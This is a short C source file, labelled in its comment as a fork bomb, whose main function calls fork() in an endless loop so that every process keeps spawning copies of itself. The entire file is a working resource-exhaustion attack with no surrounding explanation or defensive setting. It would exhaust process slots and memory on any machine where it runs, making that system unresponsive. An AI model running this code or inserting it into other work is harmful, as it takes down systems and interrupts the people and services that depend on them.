/* fork_bomb: every process forks forever, ignoring failures. */
#include <unistd.h>

int main(void)
{
	for (;;)
		fork();
}
